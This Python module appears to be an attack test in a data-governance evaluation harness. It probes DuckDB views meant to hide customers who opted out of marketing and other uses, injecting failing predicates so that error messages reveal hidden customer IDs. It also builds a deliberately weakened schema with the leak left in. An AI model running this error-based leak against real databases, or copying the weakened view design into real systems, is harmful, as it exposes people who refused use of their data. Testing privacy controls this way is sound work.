"""Put a predicate that fails into a query, so that the error tells of rows that the filter leaves out."""

import duckdb

from steward.attacks.victim import KNOWN, Figure, Victim, WeakCopy
from steward.engines.duckdb import literal, quoted

PURPOSES = {
    "marketing": "opt_out_direct_marketing",
    "disclosure_desk": "opt_out_third_party_disclosure",
    "decisions": "opt_out_automated_decisions",
    "sensitive_care": "opt_out_sensitive_data",
}


def attack(victim: Victim) -> Figure:
    recovered = tried = 0
    for reader, flag in PURPOSES.items():
        if reader not in victim.audiences:
            continue
        refused = victim.column(
            f"select customer_id from {KNOWN}.{victim.schema('logical')}.ldm_customer where {flag} order by 1 limit 40"
        )
        relation = f"{quoted(reader)}.{victim.schema(flag)}.customer"
        for person in refused:
            tried += 2
            recovered += _tells(victim, relation, f"case when customer_id = {literal(person)} then error(customer_id) is null end", person)
            recovered += _tells(victim, relation, f"cast(customer_id as integer) = 1 and customer_id = {literal(person)}", person)
    return Figure(recovered, tried)


def weaken(copy: WeakCopy) -> None:
    copy.change(
        "marketing",
        "create schema hidden",
        "create table hidden.people as select customer_id, full_name, opt_out_direct_marketing as refused "
        "from warehouse.logical.ldm_customer",
        "create table hidden.kept as select customer_id from hidden.people where not refused",
        "drop table opt_out_direct_marketing.customer",
        "create view opt_out_direct_marketing.customer as select people.customer_id, people.full_name "
        "from hidden.people inner join hidden.kept using (customer_id)",
    )


def _tells(victim: Victim, relation: str, predicate: str, person: str) -> int:
    try:
        victim.rows(f"select count(*) from {relation} where {predicate}")
    except duckdb.Error as error:
        return int(person in str(error).split("LINE 1")[0])
    return 0
